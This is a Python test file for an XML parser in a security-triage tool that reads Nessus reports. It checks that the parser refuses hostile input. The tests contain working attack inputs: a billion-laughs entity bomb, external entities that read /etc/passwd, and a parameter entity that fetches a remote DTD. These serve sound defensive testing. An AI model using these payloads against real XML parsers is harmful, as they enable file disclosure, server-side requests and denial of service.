"""XML made to do harm: entities, external files, depth, length, other encodings, and documents that break off."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.formats.reading_support import read_bytes
from triage_app.errors import BadFile
from triage_app.formats.decoding import TextSource
from triage_app.formats.line_output import LineOutput
from triage_app.formats.xml_stream import MAX_DEPTH, Element, elements

NESSUS = (Path(__file__).parents[2] / "data" / "formats" / "nessus" / "report.nessus").read_bytes()
LAUGHS = b"".join(b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;">' % (n, n - 1, n - 1, n - 1, n - 1) for n in range(1, 30))


def refused(data: bytes) -> str:
    with pytest.raises(BadFile) as found:
        read_bytes(data)
    return found.value.what


def with_doctype(inside: bytes) -> bytes:
    return NESSUS.replace(b"<NessusClientData_v2>", b"<!DOCTYPE x [" + inside + b"]><NessusClientData_v2>", 1)


def test_entities_are_refused_whether_they_laugh_or_read_files() -> None:
    bombs = [
        b'<!ENTITY l0 "lol">' + LAUGHS,
        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd"> %x;',
        b'<!ENTITY a "' + b"A" * 100_000 + b'">',
    ]
    for bomb in bombs:
        assert "declares entities" in refused(with_doctype(bomb)) or "no format knows" in refused(with_doctype(bomb))


def test_a_bare_document_type_is_allowed_for_scanners_write_one() -> None:
    data = NESSUS.replace(b"<NessusClientData_v2>", b"<!DOCTYPE NessusClientData_v2><NessusClientData_v2>", 1)
    assert len(read_bytes(data).rows) == 2


def test_an_external_document_type_is_not_fetched() -> None:
    data = NESSUS.replace(
        b"<NessusClientData_v2>", b'<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd"><NessusClientData_v2>', 1
    )
    assert len(read_bytes(data).rows) == 2  # the tests' own guard fails on any socket


def test_elements_a_hundred_thousand_deep_are_refused() -> None:
    data = b"<NessusClientData_v2>" + b"<a>" * 100_000
    assert f"deeper than {MAX_DEPTH}" in refused(data)


def test_a_value_that_does_not_end_is_refused_before_it_fills_the_memory() -> None:
    data = b'<NessusClientData_v2><ReportItem pluginName="' + b"x" * (20 * 1024 * 1024)
    assert "longer than 16 MB" in refused(data)


def test_a_text_of_twenty_megabytes_inside_a_finding_is_refused() -> None:
    data = NESSUS.replace(b"It prints.", b"x" * (20 * 1024 * 1024))
    assert "longer than 16 MB" in refused(data)


def test_what_came_before_a_break_is_read_and_the_break_is_one_reject_with_its_line() -> None:
    read = read_bytes(NESSUS[: NESSUS.index(b"</ReportItem>\n<ReportItem") + 20])
    assert len(read.rows) == 1
    assert "breaks off" in read.rejects[0].reason
    assert read.rejects[0].line >= 4


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_other_encodings_are_read_as_the_document_says(encoding: str) -> None:
    text = NESSUS.decode().replace('<?xml version="1.0" ?>\n', "")
    assert [row["title"] for row in read_bytes(text.encode(encoding)).rows] == ["Printer flaw", "Scan Information"]


def test_latin_1_is_read_as_the_document_says() -> None:
    text = NESSUS.decode().replace('<?xml version="1.0" ?>', '<?xml version="1.0" encoding="ISO-8859-1"?>')
    data = text.replace("Printer flaw", "Imprimante café").encode("latin-1")
    assert read_bytes(data).rows[0]["title"] == "Imprimante café"


def test_memory_stays_flat_over_a_long_report() -> None:
    item = NESSUS[NESSUS.index(b"<ReportItem") : NESSUS.index(b"</ReportItem>") + 13]
    head, tail = NESSUS.split(b"<ReportItem", 1)[0], b"</ReportHost></Report></NessusClientData_v2>"
    read = read_bytes(head + item * 3_000 + tail)
    assert len(read.rows) == 3_000


@given(
    st.recursive(st.text(alphabet="abc<>&\"' \n", max_size=8), lambda inner: st.lists(inner, max_size=3), max_leaves=8)
)
def test_any_tree_of_elements_gives_records_of_plain_data(tree: object) -> None:
    def written(node: object, depth: int = 0) -> str:
        if isinstance(node, str):
            return node.replace("&", "&amp;").replace("<", "&lt;")
        assert isinstance(node, list)
        return "".join(f"<e{depth}>{written(inner, depth + 1)}</e{depth}>" for inner in node)

    data = f"<root><item>{written(tree)}</item></root>".encode()
    output = LineOutput(io.BytesIO())
    (found,) = elements(TextSource(io.BytesIO(data), "x"), output, "x", frozenset(("item",)))
    assert isinstance(found.record, dict)
    assert output.rejected == 0


def read_items(data: bytes) -> tuple[list[Element], LineOutput, bytes]:
    """The elements ``item`` of a document, without asking first what format it is; and what was said of it."""
    stream = io.BytesIO()
    output = LineOutput(stream)
    found = list(elements(TextSource(io.BytesIO(data), "x"), output, "x", frozenset(("item",))))
    output.end()
    return found, output, stream.getvalue()


@pytest.mark.parametrize(
    "declared",
    [
        b'<!ENTITY l0 "lol">' + LAUGHS,
        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd"> %x;',
        b'<!ATTLIST item much CDATA "' + b"A" * 10_000 + b'">',
        b"<!ELEMENT item ANY>",
    ],
)
def test_a_document_type_with_declarations_is_refused_whatever_it_declares(declared: bytes) -> None:
    with pytest.raises(BadFile) as found:
        read_items(b"<!DOCTYPE root [" + declared + b"]><root><item a='1'/></root>")
    assert "declares entities or the like" in found.value.what


@pytest.mark.parametrize("damage", [b"</oops>", b"\x01", b"<a b=1>", b"&unknown;", b"\xff"])
def test_what_came_before_damage_near_the_beginning_is_read(damage: bytes) -> None:
    end = NESSUS.index(b"</ReportItem>") + len(b"</ReportItem>")
    read = read_bytes(NESSUS[:end] + damage + NESSUS[end:])
    assert [row["title"] for row in read.rows] == ["Printer flaw"]
    (reject,) = read.rejects
    assert reject.line == 4
    assert "damaged here" in reject.reason


def test_a_record_that_the_file_ends_inside_is_kept_in_its_reject() -> None:
    read = read_bytes(NESSUS[: NESSUS.index(b"<solution>") + 12])
    assert read.rows == []
    (reject,) = read.rejects
    assert reject.reason.endswith("the file ends inside solution")
    assert json.loads(reject.text)["@pluginName"] == "Printer flaw"


def test_an_element_knows_the_line_that_it_begins_on() -> None:
    found, _, _ = read_items(b"<root>\n<item/>\n\n<item>\n\n</item></root>")
    assert [element.line for element in found] == [2, 4]


def test_utf_16_that_still_declares_utf_8_is_read_as_what_it_is() -> None:
    text = NESSUS.decode().replace('<?xml version="1.0" ?>', '<?xml version="1.0" encoding="UTF-8"?>')
    assert len(read_bytes(text.encode("utf-16")).rows) == 2


def test_a_million_elements_in_one_record_are_refused_before_they_fill_the_memory(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("triage_app.formats.xml_stream.MAX_NODES", 1_000)
    many = b"<root><item>" + b'<a b=""/>' * 499
    found, _, _ = read_items(many + b"</item><item>" + b"<a/>" * 900 + b"</item></root>")
    assert len(found) == 2
    with pytest.raises(BadFile, match="more than 1,000 elements"):
        read_items(many + b'<a b=""/></item></root>')


def test_a_hundred_megabytes_on_one_line_are_never_held(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("triage_app.formats.xml_stream.MAX_RECORD", 1_000_000)
    fed = 0

    class Endless(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            nonlocal fed
            fed += size
            return b'<root><item a="'.ljust(size, b"x") if fed == size else b"x" * size

    source = TextSource(Endless(), "x")
    with pytest.raises(BadFile, match="longer than 16 MB"):
        list(elements(source, LineOutput(io.BytesIO()), "x", frozenset(("item",))))
    assert fed < 5_000_000


@pytest.mark.parametrize("data", [b"<!-- nothing -->", b'<?xml version="1.0"?>\n', b"<", b"<root", b"<1/>"])
def test_a_document_without_a_first_element_is_refused_in_a_sentence(data: bytes) -> None:
    with pytest.raises(BadFile, match="begins like XML"):
        read_items(data)


def test_names_are_read_without_their_namespace_whatever_it_is() -> None:
    (found,), _, _ = read_items(b'<r xmlns:x="urn:evil"><x:item x:a="1" a="2"><x:b>t</x:b></x:item></r>')
    assert found.record["b"] == "t"
